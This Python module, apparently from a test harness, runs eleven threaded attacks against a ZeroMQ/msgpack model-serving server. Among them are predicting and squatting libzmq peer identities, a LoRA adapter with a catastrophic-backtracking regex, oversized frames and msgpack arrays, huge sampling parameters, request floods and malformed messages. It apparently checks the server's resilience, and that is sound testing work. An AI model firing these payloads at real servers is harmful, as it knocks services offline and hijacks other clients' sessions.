"""Attacks on a server, each a round that a thread repeats: see run.py.

Runs as a process of its own, so that the attackers' Python does not slow down the honest clients'.
"""

import contextlib
import json
import random
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import msgpack
import zmq

FRAME_BYTES = 15 << 20
REST_S = 0.2  # between two rounds of one attack
HOSTILE = '{"peft_type": "LORA", "r": 4, "lora_alpha": 8, "target_modules": "(?:.?.?)*!"}'
DRAW_UNSEEDED = """
import ctypes
rand = ctypes.CDLL(None).rand
for _ in range(5):
    low, high = rand(), rand()
    print((high << 31 | low) & 0xFFFFFFFF)
"""


@dataclass
class Target:
    """The server under attack. `folder` holds an adapter of HOSTILE, and a good one, "a"."""

    endpoint: str
    folder: Path
    context: zmq.Context[Any]
    rng: random.Random

    @contextlib.contextmanager
    def connect(self, identity: bytes = b"") -> Any:
        with self.context.socket(zmq.DEALER) as dealer:
            dealer.linger = 0
            if identity:
                dealer.setsockopt(zmq.IDENTITY, identity)
            dealer.setsockopt(zmq.SNDTIMEO, 2000)
            dealer.connect(self.endpoint)
            yield dealer

    def text(self) -> str:
        return "".join(self.rng.choices("abcdefgh ", k=30))


def packed(kind: str, **fields: Any) -> bytes:
    return msgpack.packb({"type": kind, "request_id": "r", **fields})


def generate(request_id: str, **params: Any) -> bytes:
    fields = {"prompt_token_ids": [5, 6, 7], "stream": True, "sampling_params": params}
    return packed("generate", **fields | {"request_id": request_id})


def squat(target: Target) -> None:
    """Claim the identities that an unseeded libzmq would give to the next peers."""
    drawn = subprocess.run(
        [sys.executable, "-c", DRAW_UNSEEDED], capture_output=True, text=True, check=True
    )
    numbers = [int(line) + i for line in drawn.stdout.split() for i in range(5, 16)]
    with contextlib.ExitStack() as stack:
        for number in numbers:
            identity = b"\0" + (number & 0xFFFFFFFF).to_bytes(4, "big")
            stack.enter_context(target.connect(identity)).send(packed("ping"))
        time.sleep(1)


def load_hostile_adapter(target: Target) -> None:
    with target.connect() as dealer:
        for number in range(20):
            path = str(target.folder / "hostile")
            dealer.send(packed("load_adapter", name=f"hostile-{number}", path=path))
        dealer.poll(2000)


def send_huge_frames(target: Target) -> None:
    """50 frames of 15 MiB over four connections."""
    frames = (b"\xc1" * FRAME_BYTES, packed("generate", prompt="x y " * (FRAME_BYTES // 4)))
    with contextlib.ExitStack() as stack:
        dealers = [stack.enter_context(target.connect()) for _ in range(4)]
        for number in range(50):
            dealers[number % 4].send(frames[number % 2])
        time.sleep(1)


def never_read(target: Target) -> None:
    with target.connect() as dealer:
        for number in range(40):
            dealer.send(generate(f"r{number}", max_tokens=40, ignore_eos=True, logprobs=20))
        time.sleep(3)


def send_many_lists(target: Target) -> None:
    count = 15 << 20
    with target.connect() as dealer:
        dealer.send(b"\x81\xa1a\xdd" + count.to_bytes(4, "big") + b"\x90" * count)
        dealer.poll(3000)


def send_huge_parameters(target: Target) -> None:
    with target.connect() as dealer:
        dealer.send(generate("stops", stop=["s" * 4] * 400_000))
        dealer.send(generate("biases", logit_bias={str(i): 1.0 for i in range(400_000)}))
        dealer.send(generate("ids", stop_token_ids=list(range(400_000))))
        dealer.poll(3000)


def flood_with_prompt_logprobs(target: Target) -> None:
    with target.connect() as dealer:
        for number in range(8):
            ids = [target.rng.randrange(5, 380) for _ in range(400)]
            message = {"type": "generate", "request_id": f"p{number}", "prompt_token_ids": ids,
                       "sampling_params": {"prompt_logprobs": 128, "max_tokens": 1}}  # fmt: skip
            dealer.send(msgpack.packb(message))
        time.sleep(2)


def send_malformed(target: Target) -> None:
    rng = target.rng
    with target.connect() as dealer:
        for _ in range(300):
            parts = [rng.randbytes(rng.randrange(200)) for _ in range(rng.choice((1, 1, 1, 3)))]
            dealer.send_multipart(parts)
        dealer.poll(500)


def flood_the_queue(target: Target) -> None:
    with target.connect() as dealer:
        for number in range(60):
            dealer.send(generate(f"q{number}", n=4, max_tokens=8, ignore_eos=True))
        time.sleep(1)
        dealer.send(packed("bye"))
        dealer.poll(200)


def register_names(target: Target) -> None:
    with target.connect() as dealer:
        for _ in range(200):
            name = f"n{target.rng.getrandbits(40)}"
            path = str(target.folder / "a")
            dealer.send(packed("load_adapter", name=name, path=path, lazy=True))
        dealer.poll(1000)


def drop_connections(target: Target) -> None:
    host, port = target.endpoint.removeprefix("tcp://").split(":")
    for _ in range(10):
        with socket.create_connection((host, int(port)), timeout=5) as plain:
            plain.sendall(target.rng.choice((b"GET / HTTP/1.1\r\n\r\n", target.rng.randbytes(400))))
    for number in range(10):
        with target.connect() as dealer:
            dealer.send(generate(f"d{number}", max_tokens=30, ignore_eos=True))
            dealer.poll(50)


ATTACKS: tuple[Callable[[Target], None], ...] = (
    squat, load_hostile_adapter, send_huge_frames, never_read, send_many_lists,
    send_huge_parameters, flood_with_prompt_logprobs, send_malformed, flood_the_queue,
    register_names, drop_connections,
)  # fmt: skip

NAMES = tuple(attack.__name__ for attack in ATTACKS)


def repeat(attack: Callable[[Target], None], target: Target, end: float, rounds: Any) -> None:
    while time.monotonic() < end:
        with contextlib.suppress(zmq.ZMQError, OSError):  # the server cuts attackers off
            attack(target)
        rounds[attack.__name__] += 1
        time.sleep(REST_S)


def main(endpoint: str, folder: str, seconds: float, names: list[str]) -> None:
    """Attack for a while, and print the rounds of each attack as JSON."""
    context: zmq.Context[Any] = zmq.Context()
    rounds = dict.fromkeys(names, 0)
    end = time.monotonic() + seconds
    threads = [
        threading.Thread(
            target=repeat,
            args=(attack, Target(endpoint, Path(folder), context, random.Random(i)), end, rounds),
        )
        for i, attack in enumerate(ATTACKS)
        if attack.__name__ in names
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(json.dumps(rounds))
    context.destroy(linger=0)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], float(sys.argv[3]), sys.argv[4:])
